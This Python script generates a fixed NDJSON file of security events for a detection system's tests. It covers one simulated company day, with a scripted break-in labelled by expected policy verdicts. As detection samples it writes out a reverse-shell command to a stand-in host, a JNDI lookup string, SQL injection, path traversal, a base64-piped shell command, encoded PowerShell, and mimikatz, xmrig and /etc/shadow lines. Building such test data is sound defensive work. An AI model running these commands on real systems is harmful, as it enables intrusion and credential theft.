#!/usr/bin/env python3
"""Writes events.ndjson: one day of a small company, most of it dull, with one break-in told event by event.

The same events come out every time. `examples()` also says how each event is to be decided, which the
tests hold against the policies.
"""

import hashlib
import json
import random
from pathlib import Path
from typing import Any, NamedTuple

ORDINARY_EVENTS = 372
SERVERS = {"web-1": "10.20.1.11", "web-2": "10.20.1.12", "db-1": "10.20.2.21", "build-1": "10.20.3.31"}
LAPTOPS = {"laptop-ana": "10.20.8.41", "laptop-ben": "10.20.8.42", "laptop-chi": "10.20.8.43"}
HOSTS = SERVERS | LAPTOPS
USERS = ("ana", "ben", "chi", "deploy", "backup")
PROGRAMS = {
    "/usr/bin/ls": ["-l", "/srv"],
    "/usr/bin/git": ["fetch", "--prune"],
    "/usr/bin/python3.11": ["-m", "http.server", "--bind", "127.0.0.1"],
    "/usr/sbin/logrotate": ["/etc/logrotate.conf"],
    "/usr/bin/rsync": ["-a", "/srv/", "db-1:/backup/"],
    "/usr/lib/postgresql/16/bin/psql": ["-c", "select 1"],
    "/bin/bash": ["-c", "uptime"],
    "/opt/app/bin/server": ["--port", "8080"],
}
CALM_LINES = (
    "Accepted publickey for deploy from 10.20.3.31 port 51234 ssh2",
    "GET /health 200 1ms",
    "GET /orders/1042 200 18ms",
    "POST /orders 201 35ms",
    "checkpoint complete: wrote 312 buffers (1.9%)",
    "session opened for user backup by (uid=0)",
    "Reloading nginx configuration",
)
Payload = dict[str, Any]


class Example(NamedTuple):
    """One line of the file, and what the shipped policies must say to it."""

    event: dict[str, Any]
    policy_code: str
    reasons: tuple[str, ...]


def examples() -> list[Example]:
    """The events in the order of the file."""
    chance = random.Random(20260101)  # noqa: S311  (the same day every time, nothing secret)
    makers = (ordinary_login, ordinary_execution, ordinary_flow, ordinary_change, ordinary_line)
    ordinary = [chance.choices(makers, weights=(5, 6, 6, 2, 4))[0](chance) for _ in range(ORDINARY_EVENTS)]
    story = break_in()
    places = sorted(chance.sample(range(40, len(ordinary)), len(story)))
    for place, example in reversed(list(zip(places, story, strict=True))):
        ordinary.insert(place, example)
    return ordinary


def ordinary_login(chance: random.Random) -> Example:
    agent, address = chance.choice(list(HOSTS.items()))
    failed = chance.choices((0, 1, 2, 3), weights=(12, 3, 2, 1))[0]
    return allowed(
        agent,
        "sshd" if agent in SERVERS else "pam",
        {
            "kind": "auth.login",
            "user": chance.choice(USERS),
            "outcome": chance.choices(("success", "failure"), weights=(9, 1))[0],
            "source_ip": address,
            "window_s": 60,
            "failed_count": failed,
            "login_count": failed + chance.randint(1, 4),
            "countries": ["DE"],
        },
    )


def ordinary_execution(chance: random.Random) -> Example:
    path, arguments = chance.choice(list(PROGRAMS.items()))
    payload = {"kind": "process.exec", "path": path, "args": arguments, "user": chance.choice(USERS)}
    return allowed(chance.choice(list(HOSTS)), "auditd", payload)


def ordinary_flow(chance: random.Random) -> Example:
    agent, address = chance.choice(list(HOSTS.items()))
    inside = chance.random() < 0.6
    return allowed(
        agent,
        "zeek",
        {
            "kind": "network.flow",
            "source_ip": address,
            "destination_ip": chance.choice(list(SERVERS.values()))
            if inside
            else f"203.0.113.{chance.randint(1, 254)}",
            "destination_port": chance.choice((22, 445, 5432, 8080)) if inside else 443,
            "protocol": "tcp",
            "bytes_out": chance.randint(400, 4_000_000),
            "bytes_in": chance.randint(400, 40_000_000),
        },
    )


def ordinary_change(chance: random.Random) -> Example:
    number = chance.randint(1, 60)
    if chance.random() < 0.3:
        payload = changed(f"/usr/lib/python3/dist-packages/module{number}.py", "/usr/bin/dpkg")
    else:
        payload = changed(f"/srv/app/releases/{number}/config.toml", "/opt/app/bin/deploy")
    return allowed(chance.choice(list(SERVERS)), "fim", payload)


def ordinary_line(chance: random.Random) -> Example:
    payload = line(chance.choice(CALM_LINES), chance.randint(0, 900_000))
    return allowed(chance.choice(list(SERVERS)), "log", payload)


def break_in() -> list[Example]:
    """Passwords are guessed, a session is stolen, tools are run, data leaves, traces are covered."""
    return [
        denied("web-2", "sshd", guess(failed_count=14, login_count=14), "auth.failed_login_burst", name="guessing"),
        denied(
            "web-2",
            "sshd",
            guess(failed_count=64, login_count=65),
            "auth.failed_login_burst",
            "auth.impossible_login_rate",
        ),
        denied(
            "web-2", "sshd", guess(outcome="success", countries=["DE", "VN"]), "auth.several_countries", name="stolen"
        ),
        denied("web-2", "sshd", guess(failed_count="none"), "auth.malformed"),
        denied(
            "web-2", "log", line("reverse mapping failed - POSSIBLE BREAK-IN ATTEMPT!", 4096), "log.break_in_attempt"
        ),
        denied(
            "web-2", "log", line("GET /?q=${jndi:ldap://198.51.100.7/a} 400", 5120), "log.jndi_lookup", name="lookup"
        ),
        denied("web-1", "log", line("GET /files?name=../../../../etc/hosts 403", 5300), "log.path_traversal"),
        denied("web-1", "log", line("q=1' UNION SELECT name FROM users --", 5500), "log.sql_union"),
        denied("web-2", "auditd", run("/dev/shm/.cache/kworker"), "process.denied_path", name="dropper"),  # noqa: S108
        denied("web-2", "auditd", run("/tmp/x/../y"), "process.malformed"),  # noqa: S108
        denied("laptop-ben", "sysmon", run("C:\\Users\\ben\\mimikatz.exe"), "process.denied_tool"),
        denied(
            "laptop-ben",
            "sysmon",
            run("C:\\Windows\\System32\\powershell.exe", "-NoProfile", "-enc", "RwBlAHQALQBEAGEAdABlAA=="),
            "process.encoded_command",
            name="encoded",
        ),
        denied("web-2", "auditd", run("/bin/bash", "-c", "echo aWQ= | base64 -d | sh"), "process.encoded_command"),
        denied("web-2", "auditd", run("/tmp/xmrig", "--url", "pool"), "process.denied_path", "process.denied_tool"),  # noqa: S108
        denied("web-2", "log", line("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", 6000), "log.reverse_shell"),
        denied(
            "web-2",
            "zeek",
            flow("web-2", "198.51.100.7", 4444, 9_000),
            "network.denied_port",
            "network.denied_range",
            "network.private_to_public",
        ),
        denied(
            "web-2",
            "zeek",
            flow("web-2", "203.0.113.80", 445, 120_000),
            "network.denied_port",
            "network.private_to_public",
        ),
        denied("db-1", "zeek", flow("db-1", "198.51.100.9", 443, 70_000), "network.denied_range", name="beacon"),
        denied(
            "db-1",
            "zeek",
            flow("db-1", "203.0.113.81", 443, 6_442_450_944),
            "network.large_egress",
            name="exfiltration",
        ),
        denied("db-1", "zeek", flow("db-1", "somewhere.example", 443, 10), "network.malformed"),
        denied("db-1", "log", line("root : COMMAND=/usr/bin/cat /etc/shadow", 7000), "log.shadow_file_read"),
        denied("db-1", "fim", changed("/etc/passwd", "/usr/bin/vim"), "file.tampered_system_file", name="tampered"),
        denied("db-1", "fim", changed("/usr/bin/sshd", "/tmp/dpkg"), "file.tampered_system_file"),  # noqa: S108
        denied("db-1", "fim", {"kind": "file.change", "path": ["/etc/shadow"]}, "file.malformed"),
        denied("db-1", "log", {"kind": "log.line", "path": "/var/log/auth.log", "line": None}, "log.malformed"),
        Example(
            event("build-1", "scanner", {"kind": "usb.inserted", "device": "046d:c31c"}) | {"event_id": "demo-unknown"},
            "POLICY_NO_RULE_DENY",
            (),
        ),
    ]


def guess(**found: Any) -> Payload:
    return {
        "kind": "auth.login",
        "user": "ben",
        "outcome": "failure",
        "source_ip": "203.0.113.66",
        "window_s": 60,
    } | found


def run(path: str, *arguments: str) -> Payload:
    return {"kind": "process.exec", "path": path, "args": list(arguments), "user": "ben"}


def flow(agent: str, destination: str, port: int, bytes_out: int) -> Payload:
    return {
        "kind": "network.flow",
        "source_ip": HOSTS[agent],
        "destination_ip": destination,
        "destination_port": port,
        "protocol": "tcp",
        "bytes_out": bytes_out,
    }


def changed(path: str, actor: str) -> Payload:
    before, after = (hashlib.sha256(f"{path} {when}".encode()).hexdigest() for when in ("before", "after"))
    return {
        "kind": "file.change",
        "path": path,
        "action": "modified",
        "actor": actor,
        "sha256_before": before,
        "sha256_after": after,
    }


def line(text: str, offset: int) -> Payload:
    return {"kind": "log.line", "path": "/var/log/app.log", "offset": offset, "line": text}


def allowed(agent: str, source: str, payload: Payload) -> Example:
    return Example(event(agent, source, payload), "POLICY_ALLOW", ())


def denied(agent: str, source: str, payload: Payload, *reasons: str, name: str = "") -> Example:
    """A named event has an event_id of its own, so that the walk-through can ask for it."""
    named = {"event_id": f"demo-{name}"} if name else {}
    return Example(event(agent, source, payload) | named, "POLICY_DENY", tuple(sorted(reasons)))


def event(agent: str, source: str, payload: Payload) -> dict[str, Any]:
    return {"agent_id": agent, "schema_version": "1.0", "source": source, "payload": payload}


def ndjson() -> str:
    """The content of events.ndjson."""
    return "".join(json.dumps(example.event, separators=(",", ":")) + "\n" for example in examples())


if __name__ == "__main__":
    Path(__file__).with_name("events.ndjson").write_text(ndjson(), encoding="utf-8")
